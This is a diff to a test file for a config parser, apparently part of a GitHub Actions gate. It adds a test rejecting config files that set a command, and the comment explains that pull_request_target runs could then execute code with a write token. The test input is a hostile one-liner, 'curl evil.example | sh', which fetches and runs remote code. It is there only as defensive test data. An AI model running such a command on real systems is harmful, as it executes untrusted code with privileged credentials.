@@ -75,6 +75,8 @@ describe('parseConfig', () => {
   });
   test('a config file (it may come from the pull request) cannot hand the command more of the environment', () => {
     expect(() => parseConfig('command-env: GITHUB_TOKEN\n', 'gate.yml')).toThrow(/^gate\.yml: "command-env" cannot be set in a config file; set the `command-env` input/);
+    // Nor run code: under pull_request_target with the head checked out, a config's command would run with a write token.
+    expect(() => parseConfig('command: curl evil.example | sh\n', 'gate.yml')).toThrow(/^gate\.yml: "command" cannot be set in a config file; set the `command` input/);
   });
 });
 
